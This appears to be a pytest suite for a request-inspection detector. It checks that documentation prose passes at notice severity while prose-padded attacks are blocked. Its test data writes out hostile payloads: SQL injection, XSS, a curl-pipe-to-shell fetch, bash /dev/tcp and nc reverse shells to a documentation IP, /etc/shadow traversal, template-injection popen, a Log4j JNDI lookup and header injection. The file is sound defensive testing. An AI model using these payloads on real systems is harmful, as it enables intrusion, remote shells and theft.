"""Undeclared free text: a value that reads as prose gets the rules that documentation
trips (shell syntax shown in a manual, ``../`` in a path description, ``print(`…`)``) at
notice severity only; an attack shaped to break out of its context, or one with a real
signal, is still refused in exactly those fields."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest

from dijk.detect.content import breaks_out, looks_like_prose, text_field_name
from dijk.detect.engine import Detector
from dijk.detect.findings import NOTICE, RequestParts, Verdict

DETECTOR = Detector(paranoia=1)

# Documentation as people write it (the shapes the hard benign corpus showed).
MAKE_VARIABLE = (
    "The suite may also contain a variable, $(ARCH), which expands to the Debian "
    "architecture in use on the system (such as amd64 or armel). This allows sources "
    "files that do not depend on the architecture. In general this only matters when "
    "an exact path is given; otherwise APT builds the address itself."
)
RST_LINKS = (
    "Trio was built from the ground up to take advantage of the `latest Python features "
    "<https://www.python.org/dev/peps/pep-0492/>`__, and draws inspiration from `many "
    "sources <https://github.com/python-trio/trio/wiki/Reading-list>`__, in particular "
    "the design of older libraries, yet it is just as capable and much simpler to use."
)
DOTTED_PATHS = (
    "Het bestand Release bevindt zich normaal in de map .../dists/distributienaam, "
    "bijvoorbeeld .../dists/stable/Release, of .../dists/bookworm/Release. Het bevat een "
    "enkele structuur bestaande uit meerdere regels, die van toepassing is op alle "
    "pakketten uit de volledige mappenboom onder diens bovenliggende map."
)
PADDING = (
    "Thank you for the quick answer yesterday, the statement arrived and everything "
    "looks fine now, but I still have a question about the export of my accounts "
    "which I would like to discuss with someone from the support team soon "
)


def post(body: object, kinds: dict[tuple[str, str], str] | None = None) -> Verdict:
    request = RequestParts.from_target(
        "POST", "/api/v1/tickets", [("Content-Type", "application/json")], json.dumps(body).encode()
    )
    return DETECTOR.inspect(replace(request, content_kinds=kinds))


@pytest.mark.parametrize("text", [MAKE_VARIABLE, RST_LINKS, DOTTED_PATHS])
@pytest.mark.parametrize("field", ["description", "body", "comment", "notes", "remarks"])
def test_documentation_prose_in_free_text_fields_passes(text: str, field: str) -> None:
    verdict = post({"subject": "Question", field: text})
    assert not verdict.blocked, verdict.findings


def test_demoted_rules_still_report_at_notice_severity() -> None:
    verdict = post({"description": MAKE_VARIABLE})
    demoted = [f for f in verdict.findings if f.rule_id == "cmdi-command-substitution"]
    assert demoted, "the finding is kept for the audit record, at notice severity"
    assert all(finding.severity == NOTICE for finding in demoted)


def test_documentation_prose_declared_as_prose_passes_too() -> None:
    verdict = post({"description": MAKE_VARIABLE}, {("json", "$.description"): "prose"})
    assert not verdict.blocked, verdict.findings


def test_short_values_keep_full_severity() -> None:
    verdict = post({"description": "see $(id) now"})
    assert verdict.blocked


@pytest.mark.parametrize(
    "attack",
    [
        # quote + SQL continuation
        PADDING + "x' OR 1=1--",
        PADDING + "x' UNION SELECT password FROM users--",
        PADDING + "x'; DROP TABLE accounts--",
        # closing tag + script
        PADDING + "</textarea><script>alert(document.cookie)</script>",
        PADDING + "</p><img src=x onerror=alert(1)>",
        # command separators and substitutions with a real payload
        PADDING + "; cat /etc/passwd",
        PADDING + "$(curl -s http://203.0.113.7/x.sh | sh)",
        PADDING + "&& bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        # values that start by breaking out of their context
        "'; " + PADDING + " $(id)",
        "`id` " + PADDING,
        "| nc 203.0.113.7 4444 -e /bin/sh " + PADDING,
        # traversal to a sensitive file, template and Log4j lookups
        PADDING + " ../../../../etc/shadow",
        PADDING + " {{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
        PADDING + " ${jndi:ldap://203.0.113.7/a}",
    ],
)
@pytest.mark.parametrize("field", ["description", "comment", "body", "text", "summary"])
def test_attacks_padded_with_prose_in_free_text_fields_are_refused(attack: str, field: str) -> None:
    verdict = post({"subject": "Question", field: attack})
    assert verdict.blocked, (attack, verdict.findings)


def test_prose_needs_length_words_and_letters() -> None:
    assert looks_like_prose(MAKE_VARIABLE, named=False)
    assert not looks_like_prose("short $(id)", named=True)
    assert not looks_like_prose("a=1&b=2;" * 40, named=True)
    assert not looks_like_prose("x " * 150, named=False)  # one-letter "words"
    # a named free-text field needs less text
    medium = "This is a short note about the export that failed again this morning for us."
    assert len(medium) < 200
    assert looks_like_prose(medium + " Please check.", named=True)
    assert not looks_like_prose(medium + " Please check.", named=False)


@pytest.mark.parametrize(
    "value",
    [
        "' or 1=1",
        '" OR "a"="a',
        "x') union select 1",
        "name' -- ",
        "; id",
        "| id",
        "`id`",
        "$(id)",
        ") or (1",
        "}} {{7*7}}",
        "text </script><script>alert(1)</script>",
        "it is 'x'; drop table t",
    ],
)
def test_breakout_shapes(value: str) -> None:
    assert breaks_out(value)


@pytest.mark.parametrize(
    "value",
    [MAKE_VARIABLE, RST_LINKS, DOTTED_PATHS, "It's the user's 'favourite' option, isn't it?"],
)
def test_prose_does_not_break_out(value: str) -> None:
    assert not breaks_out(value)


@pytest.mark.parametrize(
    ("field", "named"),
    [
        ("$.description", True),
        ("$.ticket.comment", True),
        ("$.notes[3]", True),
        ("$.Body", True),
        ("$.name", False),
        ("$.descriptionId", False),
        ("q", False),
    ],
)
def test_text_field_names(field: str, named: bool) -> None:
    assert text_field_name(field) is named


def test_markdown_prose_outside_code_blocks_is_demoted_too() -> None:
    text = MAKE_VARIABLE + "\n\n```sh\napt-get update\n```\n"
    verdict = post({"description": text}, {("json", "$.description"): "markdown"})
    assert not verdict.blocked, verdict.findings


def test_markdown_prose_that_breaks_out_is_refused() -> None:
    text = PADDING + "x' UNION SELECT password FROM users--\n\n```sh\nls\n```\n"
    verdict = post({"description": text}, {("json", "$.description"): "markdown"})
    assert verdict.blocked


def test_fields_declared_as_code_are_not_demoted_further() -> None:
    # code keeps only the categories dangerous wherever text goes; a Log4j lookup in it
    # is refused whatever prose surrounds it
    verdict = post(
        {"content": PADDING + " ${jndi:ldap://203.0.113.7/a}"}, {("json", "$.content"): "code"}
    )
    assert verdict.blocked


@pytest.mark.parametrize("kind", [None, "prose", "code"])
def test_header_injection_after_prose_is_refused(kind: str | None) -> None:
    body = {"content": PADDING + " and then\r\nSet-Cookie: session=attacker"}
    verdict = post(body, {("json", "$.content"): kind} if kind else None)
    assert verdict.blocked, verdict.findings


def test_windows_line_ends_in_prose_are_not_a_breakout() -> None:
    assert not breaks_out("First paragraph of the note.\r\n\r\nSecond paragraph, no header.")
    assert breaks_out("note\r\nLocation: http://203.0.113.7/")
